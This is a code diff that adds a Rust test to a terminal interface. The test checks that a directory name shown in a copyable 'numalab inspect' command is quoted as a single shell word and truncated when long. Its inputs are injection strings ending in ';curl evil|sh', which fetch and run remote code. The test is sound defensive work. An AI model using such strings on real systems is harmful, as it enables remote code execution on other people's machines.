@@ -95,6 +95,33 @@ fn the_screens_are_those_that_a_person_has_reviewed() {
     }
 }
 
+/// The name of a data directory is its owner's choice, and root pastes the command.
+#[test]
+fn a_hostile_name_is_one_word_of_the_command_on_one_line() {
+    let command = |name: &str, width: u16| {
+        let mut view = View::new(Options::default());
+        for (tick, key) in ["\t\t\n", ""].iter().enumerate() {
+            let mut snapshot = Box::new(machine(2, 4, tick as u32));
+            name.clone_into(&mut snapshot.instances[0].name);
+            view.update(Input::Snapshot(snapshot));
+            keys(&mut view, key);
+        }
+        keys(&mut view, "⇲");
+        let text = text(&view, width, 60);
+        let found = text.lines().find(|it| it.contains("numalab inspect "));
+        found.unwrap_or_else(|| panic!("{text}")).to_owned()
+    };
+    let line = command("postgres:/tmp/x  y;curl evil|sh", 120);
+    assert!(
+        line.ends_with(" numalab inspect 'postgres:/tmp/x  y;curl evil|sh'"),
+        "{line}"
+    );
+    let long = format!("postgres:/tmp/{}'/x;curl evil|sh", "a".repeat(100));
+    let line = command(&long, 80);
+    let expected = format!("numalab inspect 'postgres:/tmp/{}…", "a".repeat(48));
+    assert_eq!(line, expected);
+}
+
 #[test]
 fn a_view_without_a_snapshot_waits() {
     let mut view = View::new(Options::default());
